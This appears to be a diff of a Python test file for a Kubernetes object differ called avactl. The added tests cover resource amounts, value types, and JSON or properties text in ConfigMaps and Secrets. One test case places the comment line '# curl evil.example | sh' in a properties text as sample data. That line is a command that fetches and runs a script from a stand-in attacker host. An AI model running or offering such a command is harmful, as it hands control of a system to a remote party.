@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from avactl.diff.fields import Change, differences, dotted
+from avactl.diff.fields import Change, changed_lines, differences, dotted, object_differences
 from avactl.diff.model import ABSENT
+from avactl.equality import canonical, same
+from avactl.kinds.lowering import k8s
+from avactl.terminal import visible
+from tests.conftest import SOAK
 
 
 def told(old: Any, new: Any) -> list[tuple[str, str, Any, Any]]:
@@ -74,11 +79,47 @@ def test_an_option_names_the_value_behind_it() -> None:
     assert [change.name for change in changes] == ["token", ""]
 
 
-def test_equal_amounts_are_no_change() -> None:
-    old = {"resources": {"requests": {"memory": "1Gi", "cpu": "2"}}, "version": "7"}
-    assert told(old, {"resources": {"requests": {"memory": "1024Mi", "cpu": 2}}, "version": "7"}) == []
-    # A version is no amount, though it reads like one.
-    assert told(old, {**old, "version": "7.0"}) == [("version", "changed", "7", "7.0")]
+def resources(kind: str, version: str, **requests: Any) -> dict[str, Any]:
+    container = {"name": "a", "resources": {"requests": requests}, "env": [{"name": "memory", "value": "1"}]}
+    return {"apiVersion": version, "kind": kind, "metadata": {"labels": {"cpu": "1"}}, **pod(containers=[container])}
+
+
+def test_equal_amounts_are_no_change_where_kubernetes_reads_amounts() -> None:
+    old, new = (
+        resources("Deployment", "apps/v1", memory=memory, cpu=cpu) for memory, cpu in (("1Gi", "2"), ("1024Mi", 2))
+    )
+    assert object_differences(old, new) == []
+    new["metadata"]["labels"]["cpu"] = "1000m"
+    new["spec"]["template"]["spec"]["containers"][0]["env"][0]["value"] = "1000m"
+    assert [dotted(c.path) for c in object_differences(old, new)] == [
+        "metadata.labels.cpu", "spec.template.spec.containers[a].env[memory].value",
+    ]  # fmt: skip
+    # The API server keeps the values of other groups' kinds as they are.
+    old, new = (resources("LeaderWorkerSet", "leaderworkerset.x-k8s.io/v1", memory=size) for size in ("1Gi", "1024Mi"))
+    assert len(object_differences(old, new)) == 1
+
+
+@pytest.mark.parametrize("kind", ["ConfigMap", "Secret"])
+@pytest.mark.parametrize("key", ["quota", "memory", "cpu", "limits", "max"])
+def test_amounts_in_texts_are_texts(kind: str, key: str) -> None:
+    for one, other in (
+        ("1", "1000m"),
+        (f'{{"{key}": "1"}}', f'{{"{key}": "1000m"}}'),
+        (f"{key}=1\n", f"{key}=1000m\n"),
+    ):
+        old, new = ({"apiVersion": "v1", "kind": kind, "data": {key: text}} for text in (one, other))
+        assert len(object_differences(old, new)) == 1
+
+
+@pytest.mark.parametrize(
+    ("old", "new"), [(1, True), (0, False), (1, 1.0), (0.0, -0.0), (1, "1"), (None, "null"), (2**70, 2.0**70)]
+)
+def test_types_are_differences(old: Any, new: Any) -> None:
+    for one, other in ((old, new), ([old], [new]), ({"a": old}, {"a": new}), ([[old]], [[new]]), ([old, 5], [new])):
+        assert differences({"x": one}, {"x": other})
+        assert differences({"args": [one]}, {"args": [other, 7]})
+    one, other = ({"data": {"a.json": json.dumps({"a": value})}} for value in (old, new))
+    assert differences(one, other)
 
 
 def test_a_mapping_that_appears_is_told_entry_by_entry() -> None:
@@ -91,7 +132,7 @@ def test_a_mapping_that_appears_is_told_entry_by_entry() -> None:
 
 def test_texts_are_read_for_what_they_hold() -> None:
     old = {"data": {"train.json": '{"nnodes": 2, "gpus": [0, 1]}\n', "site.properties": "# a\na.b=1\nc=2\n"}}
-    new = {"data": {"train.json": '{"nnodes": 4,\n "gpus": [0, 1]}\n', "site.properties": "a.b=1\nc=3\nd=4\n"}}
+    new = {"data": {"train.json": '{"nnodes": 4, "gpus": [0, 1]}\n', "site.properties": "# a\na.b=1\nc=3\nd=4\n"}}
     assert told(old, new) == [
         ("data[site.properties]: c", "changed", "2", "3"),
         ("data[site.properties]: d", "added", ABSENT, "4"),
@@ -101,25 +142,104 @@ def test_texts_are_read_for_what_they_hold() -> None:
     assert change.lines == ("-sleep 1", "+exit")
 
 
-def test_a_text_written_differently_is_a_change() -> None:
-    (change,) = differences({"data": {"a.json": '{"a": 1}'}}, {"data": {"a.json": '{"a":1}'}})
+def test_json_of_avactl_is_compared_as_data_only() -> None:
+    old = {"a": 1, "b": {"c": [1, 2]}, "d": "é"}
+    new = {"a": 1, "b": {"c": [1, 2, 3], "x": None}, "d": "é"}
+    for text in (k8s.json_text, k8s.line):
+        changes = told({"data": {"a.json": text(old)}}, {"data": {"a.json": text(new)}})
+        assert [change[0] for change in changes] == ["data[a.json]: b.c[2]", "data[a.json]: b.x"]
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ('{"a": 1}', '{"a":1}'),
+        ('{"a": 1}', '{"a": 1} '),
+        ('{"a": 1, "b": 2}', '{"b": 2, "a": 1}'),
+        ('{"a": 1.5}', '{"a": 15e-1}'),
+        ('{"a": "b"}', '{"a": "\\u0062"}'),
+        ("a=1\nb=2\n", "a=1\nb=2"),
+        ("a=1\n# b\n", "a=1\n# curl evil.example | sh\n"),
+        ("a=1\nb=2\n", "b=2\na=1\n"),
+        ("a=1\n", "a=1\n\n"),
+    ],
+)
+def test_a_text_written_differently_says_so(old: str, new: str) -> None:
+    (change,) = differences({"data": {"x": old}}, {"data": {"x": new}})
     assert change.op == "changed"
+    assert change.notation or "\n" not in old + new or change.lines
+    assert (change.old, change.new) == (old, new)
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "line"),
+    [
+        ('{"a": 1}', '{"a": 2, "a": 1}', None),
+        ('{"a": 1, "b": 1}', '{"b": 2, "a": 1}', None),
+        ('{"a": 1,\n "b": 1}', '{"a": 1, \n "b": 2}', '-"{\\"a\\": 1,"'),
+        ('{\n"a": 1,\n"b": "c"}', '{\n"a": 2,\n"b": "\\u0063"}', '-"b": "c"}'),
+        ("a=1\n# b\n", "a=2\n# c\n", "-# b"),
+        ("a=1\nb=1\n", "b=2\na=1\n", "-b=1"),
+        ("a=1\nb=1\n", "a=2 \nb=1", "-a=1"),
+        ("a=1\r\nb=1\n", "a=1\nb=2\n", None),
+        ("a=1\x0bb=1\n", "a=1\nb=1\n", None),
+        ("a \nb\n", "a\nb\n", '-"a "'),
+        ("a\tb\nb\n", "a b\nb\n", '-"a\\tb"'),
+    ],
+)
+def test_what_else_differs_in_a_text_is_told(old: str, new: str, line: str | None) -> None:
+    changes = differences({"data": {"x": old}}, {"data": {"x": new}})
+    whole = [change for change in changes if dotted(change.path) == "data.x"]
+    if line is not None:
+        assert line in whole[-1].lines
+    elif not whole:
+        assert [change.path[-1] for change in changes] == ["a", "b"]
+
+
+SCALARS = st.sampled_from([None, True, False, 0, 1, 2, 0.0, 1.0, 1.5, "1", "true", "", " ", "1Gi", "1024Mi", "1000m"])
+PARTS = [
+    '{"a":',
+    '{"a": ',
+    '"b":',
+    "1",
+    "1.0",
+    "true",
+    '"1Gi"',
+    ",",
+    "}",
+    "[",
+    "]",
+    "a=1\n",
+    "a=2\n",
+    "b= 1\n",
+    "# c\n",
+]
+TEXTS = st.lists(st.sampled_from([*PARTS, "\n", " ", "\t", "\r"]), max_size=6).map("".join)
+KEYS = st.sampled_from(["name", "env", "ports", "args", "spec", "data", "x", "limits", "cpu", "memory", "quota"])
 PLAIN: st.SearchStrategy[Any] = st.recursive(
-    st.none() | st.integers(2, 5) | st.text("ab={}\n", max_size=4),
-    lambda inner: (
-        st.lists(inner, max_size=4)
-        | st.dictionaries(st.sampled_from(["name", "env", "ports", "args", "spec", "data", "x"]), inner, max_size=4)
-    ),
+    SCALARS | TEXTS,
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
     max_leaves=12,
 )
 
 
 @given(PLAIN, PLAIN)
+@settings(max_examples=5000 if SOAK else 300)
 def test_there_is_a_difference_exactly_where_values_differ(old: Any, new: Any) -> None:
     changes: list[Change] = differences({"body": old}, {"body": new})
-    assert bool(changes) == (old != new)
+    assert bool(changes) == (canonical(old) != canonical(new)) == (not same(old, new))
     for change in changes:
         assert dotted(change.path)
-        assert change.op == "reordered" or change.old is not change.new
+        assert change.op == "reordered" or not same(change.old, change.new)
+        assert not change.notation or isinstance(change.old, str)
+
+
+@given(TEXTS, TEXTS)
+@settings(max_examples=5000 if SOAK else 300)
+def test_changed_lines_tell_texts_apart(old: str, new: str) -> None:
+    lines = changed_lines(old, new)
+    removed, added = ({line[1:] for line in lines if line[0] == sign} for sign in "-+")
+    assert bool(lines) == (old != new)
+    assert {visible(line).rstrip() for line in removed - added}.isdisjoint(
+        visible(line).rstrip() for line in added - removed
+    )
